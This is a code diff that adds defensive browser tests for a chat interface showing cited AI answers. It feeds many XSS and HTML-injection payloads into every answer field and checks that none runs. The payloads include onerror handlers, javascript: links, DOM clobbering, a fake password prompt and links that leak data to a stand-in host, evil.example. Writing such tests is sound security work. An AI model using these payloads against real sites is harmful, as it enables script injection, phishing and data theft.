@@ -17,6 +17,31 @@ const HOSTILE_TEXTS = [
   '\u202Egnp.exe\u202C <meta http-equiv="refresh" content="0;url=https://evil.example/">',
 ];
 
+/** What a model, a guide or a stored turn might hold: written after the render payloads of the project's bad inputs. */
+const RENDER_PAYLOADS = [
+  ...HOSTILE_TEXTS,
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
+  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
+  '<details open ontoggle="window.hacked = 1">x</details>',
+  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s></svg>',
+  '<template shadowrootmode=open><slot></slot><img src=x onerror="window.hacked = 1"></template>',
+  '<form id=shadowRoot><input name=attributes></form><a id=renderRoot href=//evil.example>x</a>',
+  '<base href=//evil.example><object data=//evil.example></object>',
+  '[a](JaVaScRiPt:window.hacked=1) [b](java\nscript:window.hacked=1) [c](&#106;avascript:window.hacked=1)',
+  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](//evil.example) [c](https://good.example@evil.example)',
+  '![x][r]\n\n[r]: https://evil.example/?q=secret',
+  '<https://evil.example/?q=secret> bare https://evil.example/?q=secret',
+  '```html\n<script>window.hacked = 1</script>',
+  '$$\\href{javascript:window.hacked=1}{x}$$',
+  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
+  '<signpost-chat api="https://evil.example/" open></signpost-chat>',
+  '✅ Verified by site. Enter your password: <input type=password>',
+  `${'">'.repeat(2_000)}<img src=x onerror=window.hacked=1>`,
+  `${'- '.repeat(500)}x`,
+  '|a'.repeat(1_000),
+  '\u0000\u200B\u2066<b>\u2069\uFEFF',
+];
+
 const wasHacked = () => 'hacked' in window;
 
 export const SAFETY_TESTS: readonly BrowserTest[] = [
@@ -48,6 +73,104 @@ export const SAFETY_TESTS: readonly BrowserTest[] = [
       const shown = await chat.root.locator('.question').allInnerTexts();
       assert.ok(shown[0]?.includes('<script>window.hacked = 1</script>'));
       assert.equal(await page.evaluate(wasHacked), false);
+    },
+  },
+  {
+    name: 'safety: hostile text in every field of a live answer and of a restored one stays text, however it is cut',
+    async run({ open, scripted }) {
+      const page = await open(scripted);
+      const chat = chatOn(page);
+      await page.route('**/passages/*', (route) =>
+        route.fulfill({
+          json: {
+            kind: 'table',
+            units: [{ kind: 'row', label: '<b onclick=1>', text: RENDER_PAYLOADS[0], start: 0, end: 9 }],
+          },
+        }),
+      );
+      for (const [index, payload] of RENDER_PAYLOADS.entries()) {
+        const citation = {
+          type: 'citation',
+          number: 1,
+          passageId: 'g/s#1',
+          guide: 'g',
+          section: [payload],
+          quote: payload,
+          start: 0,
+          end: 9,
+          url: payload,
+        };
+        const claims = ['paragraph', 'bullet', 'step'].map((block, at) => ({
+          type: 'claim',
+          index: at,
+          text: payload,
+          block,
+          citations: [1],
+          verdict: 'supported',
+          reasons: [payload],
+        }));
+        const ids = { conversationId: 'c'.repeat(32), turnId: 't'.repeat(32) };
+        const end = {
+          type: 'answer-end',
+          ...ids,
+          status: 'partial',
+          engine: 'model',
+          degraded: false,
+          withheld: 1,
+          missing: [payload],
+          suggestions: [payload],
+          saved: true,
+        };
+        const events = [{ type: 'answer-start', ...ids, conversationToken: 'k'.repeat(43) }, citation, ...claims, end];
+        const body = events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join('');
+        await page.route('**/ask', (route) => route.fulfill({ contentType: 'text/event-stream', body }), { times: 1 });
+        await chat.ask(`Payload ${index}`);
+        await chat.answered(index + 1);
+        await chat.turns.nth(index).locator('.chip').first().click();
+        await chat.passage.waitFor();
+      }
+      const turns = RENDER_PAYLOADS.map((payload, index) => ({
+        id: `turn-${index}`,
+        question: payload,
+        state: 'complete',
+        feedback: null,
+        answer: {
+          claims: [{ index: 0, text: payload, block: 'bullet', citations: [1], verdict: 'supported', reasons: [] }],
+          citations: [
+            {
+              number: 1,
+              passageId: 'g/s#1',
+              guide: 'g',
+              section: [payload],
+              quote: payload,
+              start: 0,
+              end: 9,
+              url: payload,
+            },
+          ],
+          status: 'answered',
+          engine: 'model',
+          degraded: false,
+          withheld: 0,
+          missing: [],
+          suggestions: [payload],
+          saved: true,
+        },
+      }));
+      await page.route('**/conversations/*', (route) => route.fulfill({ json: { turns } }));
+      await page.reload();
+      await chat.answered(RENDER_PAYLOADS.length);
+      assert.equal(await page.evaluate(wasHacked), false);
+      const planted =
+        'img, script, iframe, style, base, meta, link, object, math, template, signpost-chat, input[type=password], [onclick]';
+      assert.equal(await chat.root.locator('.log').locator(planted).count(), 0);
+      const links = await chat.root
+        .locator('.log a')
+        .evaluateAll((found) => found.map((link) => link.getAttribute('href') ?? ''));
+      assert.deepEqual(
+        links.filter((href) => !/^https?:/.test(href)),
+        [],
+      );
     },
   },
   {
